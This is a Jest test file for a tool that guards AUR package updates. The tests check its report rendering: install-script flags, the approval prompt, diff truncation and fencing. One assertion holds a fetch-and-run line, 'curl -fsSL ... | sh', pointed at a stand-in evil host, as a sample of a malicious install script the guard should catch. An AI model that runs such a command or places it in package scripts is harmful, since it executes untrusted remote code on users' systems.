import { describe, expect, it } from "@jest/globals";
import { diffTrees, unifiedDiff } from "../../src/guard/diff.js";
import { CHECK_RUN_TEXT_LIMIT, renderGuardReport } from "../../src/guard/report.js";
import { loadGuardCase } from "../helpers/guard-fixtures.js";

const base = {
  pkgbase: "hello-cli",
  version: "1.1.0-1",
  maintainer: "alice",
  commit: "b".repeat(40),
  previousCommit: "a".repeat(40),
  previousVersion: "1.0.0-1",
  fullDiffUrl: "https://aur.archlinux.org/cgit/aur.git/diff/?h=hello-cli&id=bbbb&id2=aaaa",
};

describe("renderGuardReport", () => {
  it("shows the flags, the decision and the whole diff when it fits", () => {
    const c = loadGuardCase("install-added");
    const diff = diffTrees(c.old.files, c.new.files);
    const report = renderGuardReport({
      ...base,
      flags: [{ kind: "install-script-added", detail: "hello-cli.install" }],
      hold: true,
      diff,
    });
    expect(report.title).toBe("hello-cli: waiting for approval (1 flag)");
    expect(report.summary).toContain("- **Install scriptlet added**: hello-cli.install");
    expect(report.summary).toContain("`/approve hello-cli`");
    expect(report.summary).toContain(base.fullDiffUrl);
    expect(report.text).toBe(`\`\`\`diff\n${diff}\`\`\`\n`);
    expect(report.text).toContain("+  curl -fsSL https://evil.example.net/payload.sh | sh");
    expect(report.truncated).toBe(false);
  });

  it("cuts a huge diff at a line boundary within GitHub's 65,535 characters, with a note and the link", () => {
    const before = Array.from({ length: 6000 }, (_, i) => `old line ${i} ${"x".repeat(i % 50)}`).join("\n");
    const after = Array.from({ length: 6000 }, (_, i) => `new line ${i} ${"y".repeat(i % 50)}`).join("\n");
    const diff = unifiedDiff("PKGBUILD", before, after);
    expect(diff.length).toBeGreaterThan(CHECK_RUN_TEXT_LIMIT);
    const report = renderGuardReport({ ...base, flags: [], hold: false, diff });
    expect(report.truncated).toBe(true);
    expect(report.text.length).toBeLessThanOrEqual(CHECK_RUN_TEXT_LIMIT);
    expect(report.text.length).toBeGreaterThan(CHECK_RUN_TEXT_LIMIT - 200);
    const [fenced, note] = report.text.split("```\n\n");
    expect(note).toMatch(
      /^\*\*The diff is too long for a check run\*\*: showing \d+ of \d+ lines\. Full diff: /,
    );
    expect(note).toContain(base.fullDiffUrl);
    const shown = (fenced as string).slice("```diff\n".length);
    expect(diff.startsWith(shown)).toBe(true);
    expect(shown.endsWith("\n")).toBe(true);
    const count = Number(/showing (\d+) of/.exec(note as string)?.[1]);
    expect(shown.split("\n").length - 1).toBe(count);
  });

  it.each([1000, 5000, 10_000])("respects a smaller limit (%d)", (limit) => {
    const diff = unifiedDiff("f", "a\n".repeat(3000), "b\n".repeat(3000));
    const report = renderGuardReport({ ...base, flags: [], hold: false, diff, limit });
    expect(report.text.length).toBeLessThanOrEqual(limit);
    expect(report.truncated).toBe(true);
  });

  it("uses a longer fence when the diff itself contains backticks", () => {
    const diff = unifiedDiff("README.md", "x\n", "```\nmalicious\n````\n");
    const report = renderGuardReport({ ...base, flags: [], hold: false, diff });
    expect(report.text.startsWith("`````diff\n")).toBe(true);
    expect(report.text.endsWith("\n`````\n")).toBe(true);
  });

  it("says so for a first build, an unchanged tree and an unreadable old tree", () => {
    const { previousCommit: _p, previousVersion: _v, ...first } = base;
    expect(
      renderGuardReport({ ...first, flags: [{ kind: "new", detail: "first" }], hold: true }).text,
    ).toMatch(/^First build/);
    expect(renderGuardReport({ ...base, flags: [], hold: false, diff: "" }).text).toMatch(/^No file changed/);
    expect(
      renderGuardReport({ ...base, flags: [], hold: false, diffUnavailable: "HTTP 503" }).text,
    ).toContain("HTTP 503");
    expect(
      renderGuardReport({ ...base, maintainer: null, flags: [], hold: false, diff: "" }).summary,
    ).toContain("maintainer orphan");
  });
});
